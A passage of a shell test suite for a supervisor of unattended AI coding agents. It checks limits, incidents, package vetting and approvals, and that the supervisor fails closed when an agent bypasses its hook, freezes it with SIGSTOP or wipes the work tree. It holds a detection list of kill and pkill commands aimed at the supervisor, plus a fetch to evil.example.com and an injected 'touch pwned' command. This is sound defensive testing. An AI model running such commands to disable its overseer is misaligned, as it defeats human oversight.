	printf '*.c diff=nothing\n' >src/c/.gitattributes
	seq 1 30 | sed 's/.*/int v&;/' >src/a/big.c
	seq 1 20 >src/b/big.c
	seq 1 10 >src/c/big.c
	printf 'x\0y\nz\n' >src/blob.dat
	# an edit of a tracked file under a new -diff attribute counts too
	printf 'one\ntwo\nthree\nfour\n' >src/main.c
	printf 'main.c -diff\n' >src/.gitattributes
	run --separate-stderr guard-session check --json
	[ "$status" -eq 0 ] || [ "$status" -eq 1 ]
	j=$output
	[ "$(jq -r '.changes[] | select(.path=="src/a/big.c") | .added' <<<"$j")" = 30 ]
	[ "$(jq -r '.changes[] | select(.path=="src/b/big.c") | .added' <<<"$j")" = 20 ]
	[ "$(jq -r '.changes[] | select(.path=="src/c/big.c") | .added' <<<"$j")" = 10 ]
	[ "$(jq -r '.changes[] | select(.path=="src/main.c") | .added' <<<"$j")" = 1 ]
	[ "$(jq -r '.changes[] | select(.path=="src/blob.dat") | .binary' <<<"$j")" = true ]
	# 30 + 20 + 10 + 1 + four one-line .gitattributes
	[ "$(jq -r .counters.loc <<<"$j")" = 65 ]
	# committed, the same count
	git add -A && git commit -qm hidden
	run guard-session check --json
	[ "$(printf '%s' "$output" | jq -r .counters.loc)" = 65 ]
}

@test "F10: over max_loc through a -diff attribute is a breach" {
	small_limits
	start attrs2
	printf '*.c -diff\n' >src/.gitattributes
	seq 1 30 >src/big.c
	run guard-session check
	[ "$status" -eq 1 ]
	[[ "$output" == *"BREACHED: loc"* ]]
}

@test "F15: code under .ai/plans/ counts; only guard's own files (plans *.md, sessions, audit, approvals, policy) do not" {
	start plans
	mkdir -p .ai/plans/sub .ai/tools
	seq 1 7 >.ai/plans/big.c
	seq 1 3 >.ai/plans/sub/nested.md
	seq 1 2 >.ai/tools/x.sh
	seq 1 50 >.ai/plans/2026-01-01_0000_cache.md
	seq 1 50 >PENDING_PLANS.md
	run guard-session check --json
	j=$output
	[ "$(jq -r '[.changes[].path] | sort | join(",")' <<<"$j")" = ".ai/plans/big.c,.ai/plans/sub/nested.md,.ai/tools/x.sh" ]
	[ "$(jq -r .counters.loc <<<"$j")" = 12 ]
	git add -A && git commit -qm plan
	run guard-session check --json
	[ "$(printf '%s' "$output" | jq -r .counters.loc)" = 12 ]
}

@test "F12: files created, modified and deleted are counted from the measure, not only from the hook" {
	many_files 1 3 d
	# none of these went through the hook: the measure finds them
	python3 -c "[open(f'src/g{i}.c','w').write(f'int g{i} = {i};\n') for i in range(4)]"
	seq 4 | xargs -I{} touch src/h{}.c
	echo changed >>src/main.c
	git rm -q src/d/f1.tmp src/d/f2.tmp
	run --separate-stderr guard-session check --json
	[ "$(printf '%s' "$output" | jq -r .counters.files_created)" = 8 ]
	[ "$(printf '%s' "$output" | jq -r .counters.files_modified)" = 1 ]
	[ "$(printf '%s' "$output" | jq -r .counters.files_deleted)" = 2 ]
	# over the seed's 20 files created: a breach found by the measure
	for i in $(seq 1 20); do echo x >src/n$i.c; done
	run guard-session check
	[ "$status" -eq 1 ]
	[[ "$output" == *"BREACHED: files_created"* ]]
	run guard-session end
	[ "$status" -eq 1 ]
	[ "$(field '.breaches[0].limit')" = files_created ]
}

@test "F25: end over max_loc (never measured during the session) ends as a breach, exit 1, incident recorded" {
	small_limits
	start over
	seq 1 30 >src/big.c # not through the hook: nothing predicted it
	git add src && git commit -qm big
	run --separate-stderr guard-session end
	[ "$status" -eq 1 ]
	[[ "$stderr" == *"30 lines of code in the session, over the limit of 5"* ]]
	[[ "$stderr" == *"ended over a limit"* ]]
	[ "$(field .status)" = ended ]
	[ "$(field '.breaches[0].limit')" = loc ]
	[ "$(guard-session status --json | jq -c .ending)" = '{"kind":"breach","limit":"loc"}' ]
	grep -q '"event":"session.terminate"' ".ai/sessions/$GUARD_SESSION.log.jsonl"
	# the PR body is still written, for a person to read
	[ -f ".ai/sessions/$GUARD_SESSION.pr.md" ]
	# a second end finds the session ended: no new breach, exit 0
	run guard-session end
	[ "$status" -eq 0 ]
}

@test "F25: end under every limit is completed, exit 0" {
	small_limits
	start under
	printf 'a\nb\n' >src/a.c
	git add src && git commit -qm small
	run guard-session end
	[ "$status" -eq 0 ]
	[ "$(guard-session status --json | jq -c .ending)" = '{"kind":"completed"}' ]
}

@test "F25: run whose agent writes past max_loc without the hook ends as a breach, exit 10" {
	small_limits
	git add .ai && git commit -qm limits
	run guard-session run --task big -- sh -c 'seq 1 30 >src/big.c && git add src && git commit -qm big'
	[ "$status" -eq 10 ]
	[ "$(ending_of big)" = '{"incident":"P3","kind":"breach","limit":"loc"}' ] ||
		[ "$(ending_of big)" = '{"kind":"breach","limit":"loc"}' ]
	[[ "$output" != *"ended (completed)"* ]]
}

# supervised TASK: guard-session run of a sleep in the background; sets sup, child, GUARD_SESSION, STATE.
supervised() {
	guard-session run --task "$1" -- sleep 60 3>&- &
	sup=$!
	wait_running "$1"
	child=$(wait_for_child "$sup" sleep)
	export GUARD_SESSION=$(basename "$(state_dir)"/*-"$1".json .json)
	STATE=$(state_dir)/$GUARD_SESSION.json
}

# The hook's answer to a call while the supervisor is frozen: refused. A
# supervisor stopped in the middle of its poll holds the session's lock,
# and the hook then blocks with exit 2 once the lock's wait runs out (more
# likely on a loaded machine); otherwise it answers continue: false.
frozen_refused() {
	run --separate-stderr guard hook claude <<<"$(jq -cn --arg cwd "$PROJ" --arg u "$1" \
		'{session_id:"c1",cwd:$cwd,hook_event_name:"PreToolUse",tool_name:"Bash",tool_input:{command:"ls"},tool_use_id:$u,tool_response:{}}')"
	[ "$status" -eq 2 ] && return 0
	[ "$status" -eq 0 ] && stopped && [[ -z "${2:-}" || "$output" == *$2* ]]
}

@test "F25: a supervisor frozen with SIGSTOP: the hook refuses every call until it runs again" {
	supervised frz
	wait_for_file "$(state_dir)/$GUARD_SESSION.beat"
	hook pre Bash '{"command":"ls"}' u1
	not_stopped
	kill -STOP "$sup"
	frozen_refused u2 "supervisor (pid $sup) is stopped"
	kill -CONT "$sup"
	hook pre Bash '{"command":"ls"}' u3
	not_stopped
	# a heartbeat older than two polls (a supervisor that does not poll) fails closed too
	touch -d '1 minute ago' "$(state_dir)/$GUARD_SESSION.beat"
	kill -STOP "$sup" # so it cannot touch it again before the hook reads it
	frozen_refused u4
	kill -CONT "$sup"
	rm -f "$(state_dir)/$GUARD_SESSION.beat"
	kill -STOP "$sup"
	frozen_refused u5
	kill -CONT "$sup"
	kill -TERM "$sup"
	wait "$sup" || true
	[ -n "$child" ] && kill "$child" 2>/dev/null || true
}

@test "F25: the heartbeat alone: a supervisor that runs but does not poll is refused" {
	supervised hb
	wait_for_file "$(state_dir)/$GUARD_SESSION.beat"
	# the recorded supervisor is now this test's shell (running, not stopped, never beating)
	jq --argjson p "$$" --argjson s "$(cut -d' ' -f22 /proc/$$/stat)" '.supervisor = {pid:$p,start:$s}' "$STATE" >"$STATE.tmp" &&
		mv "$STATE.tmp" "$STATE"
	kill -TERM "$sup"
	wait "$sup" || true
	kill "$child" 2>/dev/null || true
	jq '.status = "running" | del(.ended_at, .end_reason, .breaches, .ending)' "$STATE" >"$STATE.tmp" && mv "$STATE.tmp" "$STATE"
	touch -d '1 minute ago' "$(state_dir)/$GUARD_SESSION.beat"
	hook pre Bash '{"command":"ls"}' u1
	stopped
	[[ "$output" == *"heartbeat is "*"s old (more than 20s)"* ]]
}

@test "F25: kill/pkill/killall aimed at guard's processes or the agent's own line are critical" {
	for c in 'kill -STOP $(ps -o ppid= -p $PPID)' 'kill -9 $PPID' "kill -STOP $$" 'pkill -f guard-session' \
		'pkill -STOP -f "sess.*run"' 'killall guard-session' 'killall -STOP guard' 'pkill -P 1234' 'killall5 -STOP' \
		'kill `cat .git/guard/sessions/x.json`'; do
		run guard-risk <<<"$(jq -cn --arg c "$c" '{tool:"Bash",input:{command:$c}}')"
		[ "$(printf '%s' "$output" | jq -r .risk.level)" = critical ] || { echo "not critical: $c"; false; }
	done
	# everyday: a job of the line itself, a literal pid not above this call, a name not guard's
	for c in 'kill $!' 'kill %1' 'kill 999999' 'pkill node'; do
		run guard-risk <<<"$(jq -cn --arg c "$c" '{tool:"Bash",input:{command:$c}}')"
		[ "$(printf '%s' "$output" | jq -r .risk.level)" != critical ] || { echo "critical: $c"; false; }
	done
}

@test "defer appends the [보류] entry in the DESIGN format and saves the plan" {
	# the plan is a file of the project's (a file outside it is refused: t/trust-leak.bats)
	printf '# plan\nsteps\n' >"$PROJ/plan.md"
	run --separate-stderr guard-session defer --summary 'cache layer' --round 3 --ratio 62.5 --gate fail --reason rounds \
		--critique 'no eviction' --critique 'tests thin' --plan "$PROJ/plan.md"
	[ "$status" -eq 0 ]
	id=$(printf '%s\n' "$output" | head -1)
	[[ "$id" =~ ^[0-9]{4}-[0-9]{2}-[0-9]{2}_[0-9]{4}_cache-layer$ ]]
	cmp "$PROJ/plan.md" ".ai/plans/$id.md"
	when=$(printf '%s' "$id" | sed -E 's/^([0-9-]{10})_([0-9]{2})([0-9]{2})_.*/\1 \2:\3/')
	expected="## [보류] $when - cache layer
- **상태**: 미수렴 (라운드 3, 가중 비율 62.5%)
- **C6 Hard Gate**: 실패
- **저장된 계획서**: \`.ai/plans/$id.md\`
- **사유**: 라운드 초과
- **마지막 비평 요약**: no eviction; tests thin"
	[ "$(tail -n 6 PENDING_PLANS.md)" = "$expected" ]
	run guard-session defer --summary 'x' --round 1 --ratio 10 --gate maybe --reason stall --critique c
	[ "$status" -eq 2 ]
}

@test "briefing lists deferred plans with the four choices, pending approvals and recent sessions" {
	guard-session defer --summary 'cache layer' --round 3 --ratio 40 --gate na --reason stall --critique c >/dev/null
	# two requests made by guard-approve; the second one aged past its expiry
	guard-approve request --as claude --command 'git push --force origin fix/parser' >/dev/null
	old=$(guard-approve request --as claude --command 'echo expired one')
	jq '.expires_at = "2000-01-01T00:00:00Z"' ".ai/approvals/$old.json" >x && mv x ".ai/approvals/$old.json"
	fake_session s1 3600 12
	jq '.breaches = [{limit:"files_deleted",incident:"P2",message:"11 files deleted, over the limit of 10"}]' "$(state_dir)/s1.json" >x && mv x "$(state_dir)/s1.json"
	run guard-session briefing
	[ "$status" -eq 0 ]
	# English words in the briefing; the Korean markers stay in PENDING_PLANS.md (issue 16)
	[[ "$output" == *"Deferred plans waiting for a decision"*"cache layer"* ]]
	[[ "$output" == *"status: not converged after round "* ]]
	[[ "$output" == *"choices: revise, proceed, keep, discard"* ]]
	refute grep -qP '[\x{AC00}-\x{D7AF}]' <<<"$output"
	[[ "$output" == *"git push --force origin fix/parser (risk high"* ]]
	[[ "$output" != *"expired one"* ]]
	[[ "$output" == *"s1 (ended)"*"incident P2: 11 files deleted"* ]]
	run guard hook claude <<<"$(jq -cn --arg cwd "$PROJ" '{session_id:"c",cwd:$cwd,hook_event_name:"SessionStart",source:"startup"}')"
	[ "$status" -eq 0 ]
	[[ "$(printf '%s' "$output" | jq -r .hookSpecificOutput.additionalContext)" == *"cache layer"* ]]
}

@test "plans resolve updates the entry in place; a decided plan is a conflict" {
	a=$(guard-session defer --summary 'plan a' --round 3 --ratio 40 --gate na --reason stall --critique c 2>/dev/null)
	b=$(guard-session defer --summary 'plan b' --round 3 --ratio 40 --gate pass --reason stall --critique c 2>/dev/null)
	run guard-session plans resolve "$a" --as keep
	[ "$status" -eq 0 ]
	grep -q '^- \*\*결정\*\*: 유지' PENDING_PLANS.md
	run guard-session plans resolve "$a" --as discard
	[ "$status" -eq 0 ]
	# discarded: the entry leaves PENDING_PLANS.md, the decision stays in the plan file and the audit log
	! grep -q 'plan a' PENDING_PLANS.md
	[ "$(grep -c '결정' PENDING_PLANS.md)" = 0 ]
	grep -q '^- \*\*결정\*\*: 폐기 .*removed from PENDING_PLANS.md' ".ai/plans/$a.md"
	grep -q "\"plan.resolve\".*\"$a\"\|\"$a\".*\"plan.resolve\"" .ai/audit/*.jsonl
	grep -q '^## \[보류\] .* - plan b$' PENDING_PLANS.md
	run guard-session plans resolve "$a" --as proceed
	[ "$status" -eq 4 ]
	run guard-session plans resolve nope --as keep
	[ "$status" -eq 5 ]
	run guard-session plans resolve "$b" --as maybe
	[ "$status" -eq 2 ]
	run guard-session briefing
	[[ "$output" != *"plan a"* ]]
	[[ "$output" == *"plan b"* ]]
}

@test "briefing: each plan's reason and last critique; a request summary is not doubled (Bash: Bash:)" {
	guard-session defer --summary 'cache layer' --round 3 --ratio 40 --gate na --reason gate --critique 'no eviction' --critique 'tests thin' >/dev/null
	guard-approve request --as claude --command 'git push --force origin fix/parser' >/dev/null
	run guard-session briefing
	[[ "$output" == *"  reason: C6 hard gate failed"* ]]
	[[ "$output" == *"  last critique: no eviction; tests thin"* ]]
	[[ "$output" == *"Bash: git push --force origin fix/parser (risk"* ]]
	[[ "$output" != *"Bash: Bash:"* ]]
}

@test "PR body: tool calls counted once, plurals right; an empty session prints no gh pr create line" {
	start empty
	hook pre Bash '{"command":"ls"}' u1
	hook post Bash '{"command":"ls"}' u1
	run --separate-stderr guard-session end
	[ "$status" -eq 0 ]
	[ -z "$output" ]
	[[ "$stderr" == *"no changes on the branch: no pull request to open"* ]]
	grep -q ', 1 tool call; ' ".ai/sessions/$GUARD_SESSION.pr.md"
	git checkout -q main && cooled "$STATE"
	start two
	for u in u1 u2; do hook pre Bash '{"command":"ls"}' $u; hook post Bash '{"command":"ls"}' $u; done
	hook pre WebFetch '{"url":"https://evil.example.com/x","prompt":"p"}' u3
	echo x >src/n.c
	# uncommitted only: nothing on the branch, so no pull request either
	run --separate-stderr guard-session end
	[ -z "$output" ]
	[[ "$stderr" == *"no changes on the branch: no pull request to open"* ]]
	[[ "$stderr" == *"1 change left uncommitted"* ]]
	grep -q '^No commits on the branch. ' ".ai/sessions/$GUARD_SESSION.pr.md"
	grep -q ', 3 tool calls; ' ".ai/sessions/$GUARD_SESSION.pr.md"
	grep -q '1 network access to a host not allowed (none allowed)' ".ai/sessions/$GUARD_SESSION.pr.md"
}

@test "stronger monitoring after the files-modified warning: what is left of each budget is halved, and said so" {
	mkdir -p .ai && printf 'version: 1\nsession:\n  max_files_modified: 1\n  max_loc: 100\n' >.ai/policy.yaml
	for f in a b; do echo x >src/$f.c; done
	git add -A && git commit -qm two
	start
	call Write "$(write_json src/w.c 20)" u0 "seq 1 20 >src/w.c"
	for f in a b; do
		call Edit "{\"file_path\":\"$PROJ/src/$f.c\",\"old_string\":\"x\",\"new_string\":\"y\"}" u$f "echo y >src/$f.c"
		not_stopped
	done
	[ "$(field '.warnings[0].limit')" = files_modified ]
	[ "$(field .watch.factor)" = 50 ]
	[ "$(field .watch.before.max_loc)" = 100 ]
	# 22 lines used (20 written, one added by each edit): 22 + half of the 78 left
	[ "$(field .counters.loc_pending)" = 22 ]
	[ "$(field .limits.max_loc)" = 61 ]
	[ "$(field .watch.before.max_files_created)" = 20 ]
	[ "$(field .limits.max_files_created)" = 10 ]
	call Write "$(write_json src/w2.c 39)" u1 "seq 1 39 >src/w2.c"
	not_stopped
	hook pre Write "$(write_json src/w3.c 1)" u2
	stopped
	[[ "$(field .end_reason)" == *"62 lines of code in the session, over the limit of 61"* ]]
	run guard-session briefing
	[[ "$output" == *"stronger monitoring: since "*"cut to 50%: "*"max_loc 100 -> 61"* ]]
	run --separate-stderr guard-session end
	grep -q 'stronger monitoring.*cut to 50%' ".ai/sessions/$GUARD_SESSION.pr.md"
}

@test "stronger monitoring: a trusted layer sets the factor; the project layer cannot loosen it" {
	sed 's/^session:$/session:\n  watch_factor: 25/' "$REPO_ROOT/policy/nightbuilder.yaml" >"$BATS_TEST_TMPDIR/nb.yaml"
	export GUARD_NIGHTBUILDER_POLICY=$BATS_TEST_TMPDIR/nb.yaml
	mkdir -p .ai && printf 'version: 1\nsession:\n  watch_factor: 90\n' >.ai/policy.yaml
	start
	[ "$(field .limits.watch_factor)" = 25 ]
}

@test "incidents: a P2 is written to incidents.jsonl (state and report) and handed to incident.command as JSON" {
	cat >"$BATS_TEST_TMPDIR/managed.yaml" <<Y
version: 1
incident:
  command: "cat >>'$BATS_TEST_TMPDIR/pager.jsonl'"
Y
	export GUARD_MANAGED_POLICY=$BATS_TEST_TMPDIR/managed.yaml
	for i in $(seq 1 10); do echo x >src/d$i.c; done
	git add -A && git commit -qm del
	start
	hook pre Bash '{"command":"rm src/d1.c src/d2.c src/d3.c src/d4.c src/d5.c src/d6.c src/d7.c src/d8.c src/d9.c src/d10.c"}' u1
	stopped
	wait_for_file "$BATS_TEST_TMPDIR/pager.jsonl"
	[ "$(jq -r '.level + " " + .limit + " " + .session' "$BATS_TEST_TMPDIR/pager.jsonl")" = "P2 files_deleted $GUARD_SESSION" ]
	[ "$(jq -r .predicted "$BATS_TEST_TMPDIR/pager.jsonl")" = true ]
	[ "$(jq -r .level "$(state_dir)/incidents.jsonl")" = P2 ]
	cmp "$(state_dir)/incidents.jsonl" .ai/sessions/incidents.jsonl
}

@test "incidents: a failing incident.command is logged and the session still ends; a P3 without a command is written" {
	printf 'version: 1\nincident:\n  command: "exit 9"\n' >"$BATS_TEST_TMPDIR/managed.yaml"
	export GUARD_MANAGED_POLICY=$BATS_TEST_TMPDIR/managed.yaml
	start
	hook pre WebFetch '{"url":"https://evil.example.com/x","prompt":"p"}'
	stopped
	[ "$(field .status)" = ended ]
	grep -q '"event":"session.incident_command_failed".*it exited with status 9' ".ai/sessions/$GUARD_SESSION.log.jsonl"
	[ "$(jq -r '.level + " " + .limit' .ai/sessions/incidents.jsonl)" = "P3 unknown_host" ]
}

@test "incidents: the project layer cannot name an incident command" {
	mkdir -p .ai && printf 'version: 1\nincident:\n  command: "touch pwned"\n' >.ai/policy.yaml
	run guard-policy --validate
	[ "$status" -eq 7 ]
	[[ "$output" == *"incident"*"user and managed layers"* ]]
	run guard-session start --task t1
	[ "$status" -eq 7 ]
	[ ! -e pwned ]
}

# cached_meta ECO NAME DOWNLOADS ADVISORIES-JSON: package metadata as guard reads it (no network).
cached_meta() {
	local d
	d="$(cd "$(git rev-parse --git-common-dir)" && pwd -P)/guard/packages/$1"
	mkdir -p "$d"
	jq -n --argjson w "$3" --argjson a "$4" '{weekly_downloads:$w,advisories:$a}' >"$d/${2//\//%}.json"
}

@test "package vetting: lockfile, allowlist and metadata allow; unknown, unpopular, vulnerable and uncached deny" {
	printf '{"packages":{"node_modules/left-pad":{"version":"1.3.0"}}}\n' >package-lock.json
	git add -A && git commit -qm lock
	start
	hook pre Bash '{"command":"npm install left-pad@1.3.0"}' u1
	[ "$(decision_of)" = allow ]
	cached_meta npm react 20000000 '[]'
	hook pre Bash '{"command":"npm add react@18 --save-dev"}' u2
	[ "$(decision_of)" = allow ]
	cached_meta npm tiny-thing 9999 '[]'
	hook pre Bash '{"command":"npm install tiny-thing"}' u3
	[ "$(decision_of)" = deny ]
	[[ "$output" == *"tiny-thing (npm) has 9999 weekly downloads, under the 10,000"* ]]
	cached_meta pypi requests 10000 '[{"id":"CVE-2024-1"}]'
	hook pre Bash '{"command":"pip install requests==2.0"}' u4
	[ "$(decision_of)" = deny ]
	[[ "$output" == *"requests (pypi) has open known advisories"* ]]
	cached_meta pypi flask 10000 '[]'
	hook pre Bash '{"command":"python3 -m pip install flask"}' u5
	[ "$(decision_of)" = allow ]
	for c in "cargo add serde" "go get example.com/mod@v1" "yarn add @evil/pkg" "pnpm add x" 'npm i "$PKG"'; do
		hook pre Bash "$(jq -cn --arg c "$c" '{command:$c}')" u6
		[ "$(decision_of)" = deny ]
	done
	[[ "$output" == *"cannot know before the call"* ]]
	hook pre Bash '{"command":"cargo add serde"}' u7
	[[ "$output" == *"no metadata is cached"* ]]
	not_stopped
}

@test "package vetting: a managed packages.allow admits a package; the project layer cannot add to it" {
	printf 'version: 1\npackages:\n  allow: ["crates:serde"]\n' >"$BATS_TEST_TMPDIR/managed.yaml"
	export GUARD_MANAGED_POLICY=$BATS_TEST_TMPDIR/managed.yaml
	start
	hook pre Bash '{"command":"cargo add serde"}' u1
	[ "$(decision_of)" = allow ]
	hook pre Bash '{"command":"cargo add serde_evil"}' u2
	[ "$(decision_of)" = deny ]
	mkdir -p .ai && printf 'version: 1\npackages:\n  allow: ["*"]\n' >.ai/policy.yaml
	run guard-policy --validate
	[ "$status" -eq 7 ]
}

@test "package vetting applies to unattended sessions only" {
	run guard hook claude <<<"$(jq -cn --arg cwd "$PROJ" '{session_id:"c",cwd:$cwd,hook_event_name:"PreToolUse",tool_name:"Bash",tool_input:{command:"cargo add serde"},tool_use_id:"u"}')"
	[ "$status" -eq 0 ]
	[[ "$output" != *"no metadata is cached"* && "$output" != *"package-vetting"* ]]
}

@test "night-time approvals: a request of an unattended session waits for the next briefing (24h at most), then gets the attended timeout" {
	start
	hook pre Bash '{"command":"git reset --hard HEAD~3"}' u1
	[ "$(decision_of)" = deny ]
	req=$(ls .ai/approvals/*.json | head -1)
	[ "$(jq -r .until_briefing "$req")" = true ]
	life=$(( $(date -d "$(jq -r .expires_at "$req")" +%s) - $(date -d "$(jq -r .requested_at "$req")" +%s) ))
	[ "$life" -eq 86400 ]
	# hours later, past the 5 minute attended timeout, the morning briefing still shows it
	jq '.requested_at = "2000-01-01T00:00:00Z"' "$req" >x && mv x "$req"
	unset GUARD_SESSION
	run guard hook claude <<<"$(jq -cn --arg cwd "$PROJ" '{session_id:"c",cwd:$cwd,hook_event_name:"SessionStart",source:"startup"}')"
	[[ "$(printf '%s' "$output" | jq -r .hookSpecificOutput.additionalContext)" == *"git reset --hard HEAD~3"* ]]
	# shown: from now on it has the attended timeout (5m) left
	[ "$(jq -r '.shown_at != null' "$req")" = true ]
	left=$(( $(date -d "$(jq -r .expires_at "$req")" +%s) - $(date +%s) ))
	[ "$left" -le 300 ] && [ "$left" -gt 200 ]
	run guard-session briefing
	[[ "$output" == *"git reset --hard HEAD~3"* ]]
	jq '.expires_at = "2000-01-01T00:00:00Z"' "$req" >x && mv x "$req"
	run guard-session briefing
	[[ "$output" != *"git reset --hard HEAD~3"* ]]
}

@test "night-time approvals: a trusted approval.unattended_max bounds the wait; the project layer cannot set it" {
	printf 'version: 1\napproval:\n  unattended_max: 2h\n' >"$BATS_TEST_TMPDIR/managed.yaml"
	export GUARD_MANAGED_POLICY=$BATS_TEST_TMPDIR/managed.yaml
	start
	hook pre Bash '{"command":"git reset --hard HEAD~3"}' u1
	req=$(ls .ai/approvals/*.json | head -1)
	life=$(( $(date -d "$(jq -r .expires_at "$req")" +%s) - $(date -d "$(jq -r .requested_at "$req")" +%s) ))
	[ "$life" -eq 7200 ]
	mkdir -p .ai && printf 'version: 1\napproval:\n  unattended_max: 30d\n' >.ai/policy.yaml
	run guard-policy --validate
	[ "$status" -eq 7 ]
}

# has_libgit2 BIN: libgit2's code is in BIN, linked in (the default) or shared (STATIC_GIT=0)
has_libgit2() {
	{ nm "$1" 2>/dev/null; nm -D "$1" 2>/dev/null; } | grep -q ' [TU] git_repository_open$'
}

@test "guard links no libgit2; guard-session does" {
	run has_libgit2 "$GUARD_BIN/guard"
	[ "$status" -ne 0 ]
	has_libgit2 "$GUARD_BIN/guard-session"
	[ -z "$(ldd "$GUARD_BIN/guard" | grep git2)" ]
}

# ---- Session state the work tree cannot lose (issue 10, item 5) ----------
# The counters that enforce limits live in git's common directory; what
# the agent or a person does to the work tree must not reset them.

# A daily-LOC stop: 4 lines earlier today and 5 in this session, over 8.
# The session is ended and out of its cooldown, so only the day's stop
# can refuse the next start; the agent's work is left untracked.
day_stop() {
	small_limits
	fake_session s0 3600 4
	start
	printf '1\n2\n3\n4\n5\n' >src/new.c
	run guard-session check
	[ "$status" -eq 1 ]
	[[ "$output" == *"loc_per_day"* ]]
	hook pre Bash '{"command":"ls"}'
	stopped
	[ "$(field .day_stopped)" = true ]
	run guard-session end
	[ "$status" -eq 0 ]
	cooled "$STATE"
	[ -f ".ai/sessions/$GUARD_SESSION.json" ]
	unset GUARD_SESSION
}

still_stopped() {
	run --separate-stderr guard-session start --task again
	[ "$status" -eq 1 ]
	[[ "$stderr" == *"refusing to start: unattended runs are stopped for $(date -u +%F)"* ]]
}

@test "git stash -u after a daily-LOC stop: the next start is still refused" {
	day_stop
	git stash -u -q
	[ -z "$(git status --porcelain --ignored)" ]
	[ ! -e .ai/policy.yaml ] && [ ! -e .ai/sessions ]   # the reports and the project policy went too
	still_stopped
}

@test "git clean -fdx, reset --hard and checkout after a daily-LOC stop: the next start is still refused" {
	day_stop
	git add -A && git commit -qm wip
	git reset -q --hard HEAD~1
	git checkout -q main
	git clean -fdxq
	[ ! -e .ai ]
	still_stopped
	[ "$(git branch --show-current)" = main ]
}

@test "a person removing .ai/sessions removes the reports, not the counters" {
	day_stop
	id=$(basename "$STATE" .json)
	rm -rf .ai/sessions
	still_stopped
	run guard-session status --id "$id"
	[ "$status" -eq 0 ]
	[[ "$output" == *"$id (ended)"* ]]
	run guard-session list --json
	[ "$(printf '%s' "$output" | jq length)" = 2 ]
}

@test "sessions per day and the cooldown survive git clean -fdx" {
	fake_session s1 7200 0
	start c1
	run guard-session end
	[ "$status" -eq 0 ]
	git checkout -q main && git clean -fdxq
	run --separate-stderr guard-session start --task c2
	[ "$status" -eq 1 ]
	[[ "$stderr" == *"cooldown: the last session ended"* ]]
	cooled "$STATE"
	fake_session s2 3600 0
	git clean -fdxq
	run --separate-stderr guard-session start --task c3
	[ "$status" -eq 1 ]
	[[ "$stderr" == *"3 sessions today already, the limit is 3"* ]]
}

@test "old-layout state in .ai/sessions is imported once: counted, never twice, never lost" {
	old_session s1 7200 1500
	old_session s2 3600 1400
	printf '{"id": "bad", ' >.ai/sessions/bad.json    # malformed: skipped before, skipped now
	run guard-session list --json
	[ "$status" -eq 0 ]
	[ "$(printf '%s' "$output" | jq -c 'map(.id)')" = '["s1","s2"]' ]
	cmp .ai/sessions/s1.json "$(state_dir)/s1.json"  # copied as it was; the old file stays
	run guard-session list --json                     # a second run imports nothing more
	[ "$(printf '%s' "$output" | jq length)" = 2 ]
	[ "$(ls "$(state_dir)" | grep -c '\.json$')" = 2 ]
	# Imported, the old place is reports: removing it loses nothing, a new file there adds nothing.
	rm -rf .ai/sessions
	old_session late 60 5000
	# 2 sessions and 2,900 lines today: a third start is allowed (counted twice: 4 and 5,800).
	start t3
	run guard-session end
	[ "$status" -eq 0 ]
	cooled "$STATE"
	git checkout -q main
	run --separate-stderr guard-session start --task t4
	[ "$status" -eq 1 ]
	[[ "$stderr" == *"3 sessions today already"* ]]
	grep -q '"imported"' "$(state_dir)"/.imported-*
}

@test "a session in a linked worktree counts toward the same daily limits" {
	git worktree add -q "$BATS_TEST_TMPDIR/wt" -b wt-base main
	WT=$(cd "$BATS_TEST_TMPDIR/wt" && pwd -P) MAIN=$PROJ
	fake_session s1 7200 0
	fake_session s2 7000 0
	cd "$WT" && PROJ=$WT                               # hook calls come from the worktree
	start in-wt                                       # the third of the day, from the worktree
	[ "$STATE" = "$(cd "$PROJ" && state_dir)/$GUARD_SESSION.json" ]
	[ "$(field .project)" = "$WT" ]
	[ -f "$WT/.ai/sessions/$GUARD_SESSION.json" ]      # its report in its own worktree
	call Write "{\"file_path\":\"$WT/src/w.c\",\"content\":\"x\"}" uw "echo x >src/w.c"
	not_stopped
	[ "$(field .counters.files_created)" = 1 ]
	# The same session named from the main worktree: not tracked there (its files are not there).
	cd "$MAIN" && PROJ=$MAIN
	run --separate-stderr guard hook claude <<<"$(bash_payload 'ls')"
	[ "$(decision_of)" = deny ]
	[[ "$output" == *"runs in '$WT'"* ]]
	unset GUARD_SESSION
	run --separate-stderr guard-session start --task in-main
	[ "$status" -eq 1 ]
	[[ "$stderr" == *"session "*"-in-wt is still running"* ]]
	(cd "$WT" && guard-session end >/dev/null 2>&1)
	cooled "$STATE"
	run --separate-stderr guard-session start --task in-main
	[ "$status" -eq 1 ]
	[[ "$stderr" == *"3 sessions today already, the limit is 3"* ]]
}

@test "start fails closed when the state folder cannot be written: exit 8, nothing cut or written" {
	mkdir -p .git/guard && printf 'x' >.git/guard/sessions   # a file where the folder must be
	before=$(git for-each-ref | sha256sum)
	run --separate-stderr guard-session start --task t1
	[ "$status" -eq 8 ]
	[[ "$stderr" == "guard-session: cannot keep session state in '$PROJ/.git/guard/sessions'"*"not a folder"* ]]
	[ "$(git for-each-ref | sha256sum)" = "$before" ]
	[ "$(git branch --show-current)" = main ]
	[ -z "$(git status --porcelain --ignored)" ]
	[ "$(cat .git/guard/sessions)" = x ]
	# The hook of a session denies the same way: no count can be kept.
	GUARD_SESSION=s1 run --separate-stderr guard hook claude <<<"$(bash_payload 'ls')"
	[ "$(decision_of)" = deny ]
	[[ "$output" == *"cannot keep session state"* ]]
	# And a folder that exists but cannot be written to (a lock cannot be made).
	rm .git/guard/sessions && mkdir .git/guard/sessions && mkdir .git/guard/sessions/.start.lock
	run --separate-stderr guard-session start --task t1
	[ "$status" -eq 8 ]
	[[ "$stderr" == *"cannot keep session state in '$PROJ/.git/guard/sessions/.start.lock'"* ]]
	[ "$(git for-each-ref | sha256sum)" = "$before" ]
	[ -z "$(ls .git/guard/sessions | grep json)" ]
}

@test "two starts in one second never share an id: no session's state is overwritten" {
	sed -e 's/max_sessions_per_day: 3 /max_sessions_per_day: 999/' -e 's/cooldown: 15m /cooldown: 0   /' \
		"$REPO_ROOT/policy/nightbuilder.yaml" >"$BATS_TEST_TMPDIR/nb.yaml"
	export GUARD_NIGHTBUILDER_POLICY=$BATS_TEST_TMPDIR/nb.yaml
	# an ended session of this task at each of the next 300 seconds, whatever
	# second start runs in on a loaded machine (printf's clock formatting is
	# a builtin: no process per fixture)
	local now dir t id started ended
	now=$(date +%s) dir=$(state_dir)
	TZ=UTC printf -v started '%(%Y-%m-%dT%H:%M:%S.000Z)T' $((now - 180))
